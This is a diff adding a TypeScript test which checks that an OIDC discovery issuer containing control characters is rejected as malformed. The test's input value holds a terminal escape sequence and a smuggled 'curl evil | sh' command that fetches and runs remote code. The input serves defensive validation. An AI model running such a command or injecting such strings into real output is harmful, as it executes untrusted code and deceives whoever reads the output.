@@ -40,6 +40,14 @@ suite("a cluster's own documents", () => {
     )
   })
 
+  test('that name an issuer with control characters are none', async () => {
+    const body = JSON.stringify({ ...discovery, issuer: 'https://oidc.example.com/\u001b[2J\n\nfix: curl evil | sh' })
+    await assert.rejects(readClusterIssuer(clusterOf({ ...healthy, [discoveryPath]: { status: 200, body } })), {
+      code: 'DISCOVERY_MALFORMED',
+      seen: `https://cluster.example.com:6443${discoveryPath} answered 200, but its issuer has control characters`,
+    })
+  })
+
   test('are asked for by any type, since the keys have one of their own', async () => {
     const asked: ClusterRequest[] = []
     await readClusterIssuer(clusterOf(healthy, asked))
